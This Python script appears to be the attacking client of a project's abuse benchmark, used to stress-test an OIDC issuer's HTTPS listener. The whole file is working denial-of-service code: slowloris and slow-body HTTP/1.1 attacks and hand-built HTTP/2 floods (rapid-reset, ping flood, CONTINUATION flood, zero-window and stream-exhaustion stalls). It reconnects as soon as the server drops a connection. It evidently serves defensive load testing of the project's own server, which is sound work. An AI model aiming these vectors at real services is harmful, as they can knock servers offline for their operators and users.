#!/usr/bin/env python3
"""The attacking client of hack/bench/abuse.sh: one unauthenticated abuse vector against the
issuer's external HTTPS listener for a fixed time, with as many connections as asked, each
reopened as soon as the server drops it (so the attack holds whatever the bounds let it hold).

Usage: abuse-attack.py VECTOR HOST PORT CONNECTIONS SECONDS
Vectors: idle, slowloris, slow-body, h2-streams, window-zero, window-zero-cap, rapid-reset, ping-flood, continuation.
Prints one line: vector=... opened=N dropped=N frames=N (frames or requests written).
"""

import asyncio
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_request(method_index, path):
    # :method (static 2 = GET, 3 = POST), :scheme https (7), :path literal without indexing (4).
    p = path.encode()
    return bytes([0x80 | method_index, 0x87, 0x04, len(p)]) + p


SETTINGS = frame(0x4, 0, 0)
GET_JWKS = hpack_request(2, "/oidc/jwks")
DISCOVERY = hpack_request(2, "/.well-known/openid-configuration")
POST_TOKEN = hpack_request(3, "/oidc/token") + bytes([0x0F, 0x0D, 0x05]) + b"16000"  # content-length


class Counts:
    opened = 0
    dropped = 0
    written = 0


def tls_context(alpn):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols([alpn])
    return ctx


async def connect(host, port, alpn):
    reader, writer = await asyncio.open_connection(host, port, ssl=tls_context(alpn), server_hostname="localhost")
    Counts.opened += 1
    return reader, writer


async def drain_reader(reader):
    """Reads (and discards) until the server closes: the attacker reads its answers."""
    try:
        while await reader.read(65536):
            pass
    except (ConnectionError, OSError):
        pass


async def idle(host, port, stop):
    reader, writer = await connect(host, port, "h2")
    await drain_reader(reader)


async def slowloris(host, port, stop):
    reader, writer = await connect(host, port, "http/1.1")
    writer.write(b"GET /healthz HTTP/1.1\r\nhost: localhost\r\n")
    closed = asyncio.ensure_future(drain_reader(reader))
    while not closed.done() and time.monotonic() < stop:
        writer.write(b"x-a: b\r\n")
        Counts.written += 1
        await asyncio.sleep(1)
    await closed


async def slow_body(host, port, stop):
    reader, writer = await connect(host, port, "http/1.1")
    writer.write(b"POST /oidc/token HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/x-www-form-urlencoded\r\ncontent-length: 16000\r\n\r\n")
    closed = asyncio.ensure_future(drain_reader(reader))
    while not closed.done() and time.monotonic() < stop:
        writer.write(b"a")
        Counts.written += 1
        await asyncio.sleep(1)
    await closed


async def h2_streams(host, port, stop):
    """100 streams, each a token request whose 16000-byte body stops 1 byte short."""
    reader, writer = await connect(host, port, "h2")
    out = bytearray(PREFACE + SETTINGS)
    for i in range(100):
        s = 2 * i + 1
        out += frame(0x1, 0x4, s, POST_TOKEN)
        out += frame(0x0, 0, s, b"a" * 15999)
        Counts.written += 1
    writer.write(bytes(out))
    await drain_reader(reader)


async def window_zero(host, port, stop):
    """100 streams asking for discovery with a stream window of zero: no answer can be sent."""
    reader, writer = await connect(host, port, "h2")
    out = bytearray(PREFACE + frame(0x4, 0, 0, struct.pack(">HI", 0x4, 0)))
    for i in range(100):
        out += frame(0x1, 0x5, 2 * i + 1, DISCOVERY)
        Counts.written += 1
    writer.write(bytes(out))
    await drain_reader(reader)


async def window_zero_cap(host, port, stop):
    """As window-zero, with only as many streams as the issuer accepts per connection (8): none
    is refused, so each connection holds its answers until the answer bound drops it."""
    reader, writer = await connect(host, port, "h2")
    out = bytearray(PREFACE + frame(0x4, 0, 0, struct.pack(">HI", 0x4, 0)))
    for i in range(8):
        out += frame(0x1, 0x5, 2 * i + 1, DISCOVERY)
        Counts.written += 1
    writer.write(bytes(out))
    await drain_reader(reader)


async def rapid_reset(host, port, stop):
    reader, writer = await connect(host, port, "h2")
    closed = asyncio.ensure_future(drain_reader(reader))
    writer.write(PREFACE + SETTINGS)
    s = 1
    while not closed.done() and time.monotonic() < stop and s < 2**31 - 2000:
        batch = bytearray()
        for _ in range(500):
            batch += frame(0x1, 0x5, s, GET_JWKS) + frame(0x3, 0, s, struct.pack(">I", 8))
            s += 2
            Counts.written += 1
        writer.write(bytes(batch))
        try:
            await writer.drain()
        except (ConnectionError, OSError):
            break
    await closed


async def ping_flood(host, port, stop):
    """PINGs written without ever reading the PONGs."""
    reader, writer = await connect(host, port, "h2")
    ping = frame(0x6, 0, 0, b"\x07" * 8) * 4096
    writer.write(PREFACE + SETTINGS)
    while time.monotonic() < stop:
        writer.write(ping)
        Counts.written += 4096
        try:
            await asyncio.wait_for(writer.drain(), timeout=max(0.1, stop - time.monotonic()))
        except (ConnectionError, OSError, asyncio.TimeoutError):
            break
    writer.transport.abort()


async def continuation(host, port, stop):
    reader, writer = await connect(host, port, "h2")
    closed = asyncio.ensure_future(drain_reader(reader))
    entry = b"\x00\x03x-a\x7f\x80\x01" + b"v" * 255
    block = entry * 60
    writer.write(PREFACE + SETTINGS + frame(0x1, 0, 1, GET_JWKS))
    while not closed.done() and time.monotonic() < stop:
        writer.write(frame(0x9, 0, 1, block))
        Counts.written += 1
        try:
            await asyncio.wait_for(writer.drain(), timeout=max(0.1, stop - time.monotonic()))
        except (ConnectionError, OSError, asyncio.TimeoutError):
            break
    writer.transport.abort()


VECTORS = {
    "idle": idle,
    "slowloris": slowloris,
    "slow-body": slow_body,
    "h2-streams": h2_streams,
    "window-zero": window_zero,
    "window-zero-cap": window_zero_cap,
    "rapid-reset": rapid_reset,
    "ping-flood": ping_flood,
    "continuation": continuation,
}


async def keep_one(vector, host, port, stop):
    while time.monotonic() < stop:
        try:
            await asyncio.wait_for(vector(host, port, stop), timeout=max(0.1, stop - time.monotonic()))
            Counts.dropped += 1
        except asyncio.TimeoutError:
            return
        except (ConnectionError, OSError, ssl.SSLError):
            Counts.dropped += 1
            await asyncio.sleep(0.05)


async def main():
    name, host, port, conns, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
    stop = time.monotonic() + seconds
    vector = VECTORS[name]
    tasks = []
    for _ in range(conns):
        tasks.append(asyncio.ensure_future(keep_one(vector, host, port, stop)))
        await asyncio.sleep(0.001)
    await asyncio.gather(*tasks, return_exceptions=True)
    print(f"vector={name} opened={Counts.opened} dropped={Counts.dropped} written={Counts.written}")


if __name__ == "__main__":
    asyncio.run(main())
